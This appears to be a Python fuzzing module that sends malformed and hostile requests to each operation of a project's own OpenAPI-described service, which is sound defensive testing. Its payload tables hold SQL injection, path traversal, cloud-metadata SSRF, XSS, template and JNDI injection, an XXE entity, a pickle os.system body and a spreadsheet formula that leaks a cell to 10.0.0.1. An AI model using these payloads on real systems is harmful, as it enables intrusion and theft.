"""Requests that nobody means well with: every place of every operation, each in turn filled badly."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import quote

from connectors import CONNECTORS

Json = Any
MEGABYTE = 1 << 20


class _Nothing:
    """What JSON writes as null."""


NOTHING = _Nothing()


@dataclass(frozen=True)
class Raw:
    """Bytes that stand in a body as they are: what no JSON writer would write."""

    text: bytes


@dataclass(frozen=True)
class Attack:
    """One request: what is wrong where, and how it is sent."""

    name: str
    method: str
    path: str
    headers: Mapping[str, str | bytes] = field(default_factory=dict)
    body: Json = None
    #: Where in the body which value is put, when it is sent.
    place: tuple[Any, ...] = ()
    value: Json = None

    @property
    def operation(self) -> str:
        """The operation that is attacked."""
        return self.name.split(":")[0]

    @property
    def content(self) -> bytes:
        """The body as it is sent."""
        if self.body is None or isinstance(self.body, bytes):
            return self.body or b""
        body = _put(self.body, self.place, self.value) if self.value is not None else self.body
        body = None if self.value is NOTHING and not self.place else body
        if "form" in str(self.headers.get("Content-Type")) and isinstance(body, dict):
            return "&".join(f"{_quoted(k)}={_quoted(str(v))}" for k, v in body.items()).encode()
        return written(body)


#: Texts for any place: path, query, header, body.
TEXTS: Mapping[str, str] = {
    "empty": "",
    "blank": " \t ",
    "null byte": "a\x00b",
    "lone surrogate": "\ud800",
    "low surrogate": "张\udfff三",
    "line break": "a\r\nSet-Cookie: a=b",
    "control": "\x01\x1f\x7f\x85",
    "other way round": "\u202e\u200f\ufeff\u2028",
    "rare": "𠮷\U0010ffff\ufffe\ue000",
    "combined": "e" + "\u0301" * 5_000,
    "quote": "'",
    "sql": "'; DROP TABLE golden_person; --",
    "sql condition": "' OR 1=1) --",
    "sql pattern": "%_%\\",
    "copy end": "\\.\n\\N",
    "formula": '=HYPERLINK("http://10.0.0.1/"&A1,"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "traversal": "../../../../etc/passwd",
    "encoded traversal": "..%2f..%2f%00",
    "address": "http://169.254.169.254/latest/meta-data/",
    "script": "<script>alert(1)</script>",
    "template": "{{7*7}}${7*7}#{7*7}%s%n",
    "lookup": "${jndi:ldap://10.0.0.1/a}",
    "long": "名" * 3_000,
    "pattern": "a" * 3_000 + "!",
    "huge": "9" * 400,
    "infinite": "1e999",
    "not a number": "NaN",
    "negative": "-1",
    "beyond 63 bits": str(2**63),
    "beyond 31 bits": str(2**31),
    "full width": "１２",
    "no date": "0000-00-00",
    "far date": "99999-12-31T23:59:61+99:99",
    "before dates": "-4713-11-24",
    "null": "null",
    "list": "[]",
    "cursor": "eyJhIjogMX0.AAAA",
}

#: Values for places in a JSON body, beside the texts.
VALUES: Mapping[str, Json] = {
    "nothing": NOTHING,
    "true": True,
    "zero": 0,
    "list": [],
    "lists": [[[]]],
    "object": {},
    "prototype": {"__proto__": {"admin": True}, "constructor": 1},
    "many": list(range(10_000)),
    "huge number": Raw(b"1" + b"0" * 5_000),
    "infinite number": Raw(b"1e999"),
    "tiny number": Raw(b"1e-999"),
    "not a number": Raw(b"NaN"),
    "minus infinity": Raw(b"-Infinity"),
    "beyond 63 bits": 2**63,
    "fraction": 0.1,
    "deep list": Raw(b"[" * 20_000 + b"]" * 20_000),
    # As deep as the JSON parser goes, which what comes after it may not.
    "fairly deep list": Raw(b"[" * 400 + b"]" * 400),
    "rather deep list": Raw(b"[" * 850 + b"]" * 850),
    "deep object": Raw(b'{"a":' * 20_000 + b"1" + b"}" * 20_000),
    "ten megabytes": "名" * (10 * MEGABYTE // 3),
    "two keys": Raw(b'{"a": 1, "a": 2}'),
    "comment": Raw(b"/* */ 1"),
    "bad escape": Raw(b'"\\ud800\\u0000\\x"'),
    "bad utf-8": Raw(b'"\xff\xfe\xc0\x80"'),
}

#: Bodies that are none, and kinds of bodies that nobody asked for.
BODIES: Mapping[str, tuple[bytes, str]] = {
    "nothing": (b"", "application/json"),
    "no kind": (b"{}", ""),
    "xml": (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "text/xml"),
    "form": (b"a=b&a=c", "application/x-www-form-urlencoded"),
    "broken form": (b"--x\r\nContent-Disposition: form-data", "multipart/form-data; boundary=x"),
    "other letters": ("{}".encode("utf-16"), "application/json; charset=utf-16"),
    "no charset": (b"{}", "application/json; charset=no-such-thing"),
    "pickle": (b"\x80\x04cos\nsystem\n.", "application/octet-stream"),
    "packed": (b"\x1f\x8b\x08\x00" + b"\x00" * 100, "application/json"),
    "half": (b'{"a":', "application/json"),
    "two": (b"{}{}", "application/json"),
    "mark": (b"\xef\xbb\xbf{}", "application/json"),
    "lines": (b'{"a":1}\n\n\x00\n[', "application/x-ndjson"),
    "kind of nonsense": (b"{}", "\xff/\x00;;="),
}

_MARK = "a value to be put here"


def attacks(document: Json, known: Mapping[str, str]) -> Iterator[Attack]:
    """Give every attack on the operations of an OpenAPI document.

    ``known`` has an id of a live record for each collection, and of other things by the names of
    path parameters, so that requests reach far.
    """
    for path, item in document["paths"].items():
        for method, operation in item.items():
            yield from _on(document, path, method.upper(), operation, known)


def usual_requests(document: Json, known: Mapping[str, str]) -> Iterator[Attack]:
    """Give one request of each operation with nothing wrong in it."""
    for path, item in document["paths"].items():
        for method, operation in item.items():
            usual = _usual(document, path, operation, known)
            name = operation["operationId"]
            yield usual.attack(name, method.upper(), path, usual.filled, usual.body)


def _on(
    document: Json, path: str, method: str, operation: Json, known: Mapping[str, str]
) -> Iterator[Attack]:
    name = operation["operationId"]
    places = operation.get("parameters", [])
    usual = _usual(document, path, operation, known)
    for parameter in places:
        if parameter["name"] == "Hub-Purpose" and not name.endswith("_person"):
            # One dependency reads it for all, and most values end there.
            continue
        for what, text in TEXTS.items():
            filled = {**usual.filled, parameter["name"]: text}
            title = f"{name}: {what} in {parameter['in']} {parameter['name']}"
            yield usual.attack(title, method, path, filled, usual.body)
    if usual.body is None:
        return
    for what, (content, kind) in BODIES.items():
        yield usual.attack(f"{name}: {what} as body", method, path, usual.filled, content, kind)
    for place in [(), *_leaves(usual.body)]:
        for what, value in (*TEXTS.items(), *VALUES.items()):
            title = f"{name}: {what} at /{'/'.join(map(str, place))}"
            made = usual.attack(title, method, path, usual.filled, usual.body)
            yield replace(made, place=place, value=value)


@dataclass(frozen=True)
class _Usual:
    """How an operation is usually asked for: values of its parameters, and its body."""

    places: Mapping[str, str]
    filled: Mapping[str, str]
    body: Json
    kind: str

    def attack(
        self,
        title: str,
        method: str,
        path: str,
        filled: Mapping[str, str],
        body: Json,
        kind: str | None = None,
    ) -> Attack:
        """Write the request."""
        query, headers = [], {}
        for name, text in filled.items():
            where = self.places[name]
            if where == "path":
                path = path.replace(f"{{{name}}}", _quoted(text) or "%20")
            elif where == "query":
                query.append(f"{name}={_quoted(text)}")
            else:
                headers[name] = _header(text)
        if body is not None:
            headers["Content-Type"] = _header(self.kind if kind is None else kind)
        return Attack(title, method, f"{path}?{'&'.join(query)}", headers, body)


def _usual(document: Json, path: str, operation: Json, known: Mapping[str, str]) -> _Usual:
    filled = {"source": "property", "dataset": "rooms", "key": "RM1", "collection": "persons"}
    filled |= {"Idempotency-Key": "k", "If-Match": "*", "if-match": "*", **known}
    filled["entity_id"] = known.get(path.split("/")[2] if path.count("/") > 2 else "", "P0")
    places = {each["name"]: each["in"] for each in operation.get("parameters", [])}
    needed = [
        each["name"]
        for each in operation.get("parameters", [])
        if each.get("required") or each["name"].lower() == "if-match"
    ]
    given = {each: filled.get(each, "1") for each in needed}
    contents = operation.get("requestBody", {}).get("content", {})
    kind = next(iter(contents), "application/json")
    body = sample(document, contents[kind]["schema"]) if contents else None
    if operation["operationId"] == "push_records":
        dataset = CONNECTORS["property"].dataset("rooms")
        assert dataset is not None
        body = dataset.sample()[:1]
    return _Usual(places, given, body, kind)


def sample(document: Json, schema: Json) -> Json:
    """Return a value that a schema allows, with everything in it that it names."""
    while "$ref" in schema:
        schema = document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    for several in ("anyOf", "oneOf", "allOf"):
        if several in schema:
            plain = [one for one in schema[several] if one.get("type") != "null"]
            return sample(document, plain[0])
    for given in ("const", "default"):
        if schema.get(given) is not None:
            return schema[given]
    if schema.get("examples") or schema.get("enum"):
        return (schema.get("examples") or schema["enum"])[0]
    kind = schema.get("type")
    if kind == "object":
        return {name: sample(document, one) for name, one in schema.get("properties", {}).items()}
    if kind == "array":
        return [sample(document, schema.get("items", {}))]
    return {"integer": 1, "number": 1.5, "boolean": True}.get(kind, "2026-09-01")


def _leaves(body: Json, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Give the places of a body, objects and lists before what is in them."""
    inner = body.items() if isinstance(body, dict) else enumerate(body) if _listed(body) else ()
    for step, one in inner:
        yield (*place, step)
        yield from _leaves(one, (*place, step))


def _listed(body: Json) -> bool:
    return isinstance(body, list)


def _put(body: Json, place: tuple[Any, ...], value: Json) -> Json:
    if not place:
        return value
    changed = copy.deepcopy(body)
    inner = changed
    for step in place[:-1]:
        inner = inner[step]
    inner[place[-1]] = value
    return changed


def written(body: Json) -> bytes:
    """Write JSON as any program may, with raw bytes where it holds some."""
    raw: list[bytes] = []

    def marked(value: Any) -> str | None:
        if value is NOTHING:
            return None
        raw.append(value.text)
        return f"{_MARK} {len(raw) - 1}"

    text = json.dumps(body, default=marked).encode()
    for number, said in enumerate(raw):
        text = text.replace(f'"{_MARK} {number}"'.encode(), said)
    return text


def _quoted(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def _header(text: str) -> bytes:
    """Write what HTTP lets pass of a text in a header: the server's parser stops the rest."""
    said = text.encode("utf-8", "surrogatepass")
    return bytes(byte for byte in said if byte >= 32 and byte != 127).strip()[:8_000]
